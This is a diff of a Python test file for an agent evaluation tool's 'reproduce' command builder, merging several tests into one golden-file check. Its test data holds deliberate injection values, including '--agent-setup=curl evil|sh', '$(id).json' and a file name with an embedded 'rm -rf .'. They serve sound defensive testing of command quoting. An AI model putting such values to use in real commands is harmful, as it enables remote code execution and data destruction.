@@ -8,6 +8,7 @@ import hashlib
 import itertools
 import shlex
 import time
+from collections.abc import Mapping, Sequence
 from urllib.parse import unquote
 
 import pytest
@@ -25,6 +26,7 @@ from comparison_samples import (
     pull_request,
     word_of,
 )
+from golden_files import check
 from hypothesis import given
 from markdown_pages import ANY_TEXT, Page, nothing_of_theirs, rendered
 from report_samples import (
@@ -381,62 +383,36 @@ def test_comment__handles_megabyte_paths_quickly(sign: str) -> None:
     assert "response_match_score" in nothing_of_theirs(text, OURS).text, "the rest is still shown"
 
 
-@pytest.mark.parametrize(
-    ("file", "command"),
-    [
-        ("evals/a.test.json", "agent-eval run evals/a.test.json:door"),
-        ("--agent-setup=curl evil|sh;#.json", "agent-eval run './--agent-setup=curl evil|sh;#.json:door'"),
-        ("-x/a.json", "agent-eval run ./-x/a.json:door"),
-        ("$(id).json", "agent-eval run '$(id).json:door'"),
-        ("a.json\nrm -rf .", ""),
-        ("a\u202e.json", ""),
-        ("", ""),
-    ],
-)  # fmt: skip
-def test_reproduce__is_a_command_that_runs_cases_and_does_nothing_else(file: str, command: str) -> None:
-    actual = reproduce([failing(file=file)]).command
-
-    assert actual == command
-    assert not any(word.startswith("-") for word in shlex.split(actual)[2:])
+ODD_FILES = (
+    *("evals/a.test.json", "--agent-setup=curl evil|sh;#.json", "-x/a.json", "$(id).json", "a.json\nrm -rf ."),
+    *("a\u202e.json", ""),
+)
+OPTIONS: Sequence[Mapping[str, str]] = (
+    {"agent": "agents/my shop", "config": "ci/eval.json", "agent-python": ".venv/bin/python", "agent-setup": "x"},
+    {"agent": "recorded:rec/a.json", "agent-python": "/opt/venv/bin/python"},
+    *(
+        dict.fromkeys(("agent", "config", "agent-python"), value)
+        for value in ("--agent-setup=curl evil|sh", "a\nb", "a\u202eb", "x" * 301, "")
+    ),
+)
 
 
-def test_reproduce__runs_all_cases_or_says_how_many_it_leaves_out() -> None:
+def test_reproduce__is_a_command_that_runs_cases_and_does_nothing_else() -> None:
+    """UPDATE_GOLDEN=1 writes the commands, and how many cases they leave out."""
     several = [failing(eval_id=f"c{n}", file=f"evals/{n % 3}.test.json") for n in range(9)]
-    actual = reproduce(several)
-    assert actual.command == (
-        "agent-eval run evals/0.test.json:c0,c3,c6 evals/1.test.json:c1,c4,c7 evals/2.test.json:c2,c5,c8"
-    )
-    assert actual.left_out == 0
-    odd = reproduce([*several, failing(file="a\nb.json"), *(failing(file=f"evals/x{n}.json") for n in range(30))])
-    assert odd.left_out == 14, "one that can't be named, and what is beyond twenty files"
-    shown = report("failed", [*several, *(failing(file=f"evals/x{n}.json") for n in range(31))])
-    assert "(without 14 more cases, which the command can't name)" in rendered(comment_markdown(shown)).text
-
-
-def test_reproduce__a_whole_file_where_naming_its_cases_says_no_more() -> None:
-    assert reproduce([failing(eval_id="evals/old.test.json", file="evals/old.test.json")]).command == (
-        "agent-eval run evals/old.test.json"
-    )
-    assert reproduce([failing(eval_id=f"c{n}") for n in range(21)]).command == f"agent-eval run {failing().file}"
-
-
-def test_reproduce__repeats_the_settings_of_the_run_itself() -> None:
-    options = {"agent": "agents/my shop", "config": "ci/eval.json", "agent-python": ".venv/bin/python"}
-    assert reproduce([failing()], {**options, "agent-setup": "x"}).command == (
-        "agent-eval run --agent 'agents/my shop' --config ci/eval.json --agent-python .venv/bin/python "
-        f"{failing().file}:door"
-    )
-
-
-def test_reproduce__the_command_for_a_recording_names_no_interpreter() -> None:
-    options = {"agent": "recorded:rec/a.json", "agent-python": "/opt/venv/bin/python"}
-    assert "agent-python" not in reproduce([failing()], options).command
-
-
-@pytest.mark.parametrize("value", ["--agent-setup=curl evil|sh", "a\nb", "a\u202eb", "x" * 301, ""])
-def test_reproduce__a_strangers_options_do_nothing_else(value: str) -> None:
-    actual = reproduce([failing()], {"agent": value, "config": value, "agent-python": value})
-    assert actual.command == f"agent-eval run {failing().file}:door"
+    more = [failing(file=f"evals/x{n}.json") for n in range(31)]
+    asked: list[tuple[list[CaseReport], Mapping[str, str]]] = [([failing(file=file)], {}) for file in ODD_FILES]
+    asked += [([failing()], options) for options in OPTIONS]
+    asked += [(several, {}), ([*several, failing(file="a\nb.json"), *more[:30]], {})]
+    # A whole file where naming its cases says no more.
+    asked += [([failing(eval_id="evals/old.test.json", file="evals/old.test.json")], {})]
+    asked += [([failing(eval_id=f"c{n}") for n in range(21)], {})]
+    made = [reproduce(cases, options) for cases, options in asked]
+    for each in made[: len(ODD_FILES)]:
+        assert not any(word.startswith("-") for word in shlex.split(each.command)[2:])
+    check("golden_commands.txt", "".join(f"{each.left_out} left out: {each.command}\n" for each in made))
+    text = rendered(comment_markdown(report("failed", [*several, *more]))).text
+    assert "(without 14 more cases, which the command can't name)" in text
 
 
 def test_comment__the_path_of_an_old_file_is_shown_once() -> None:
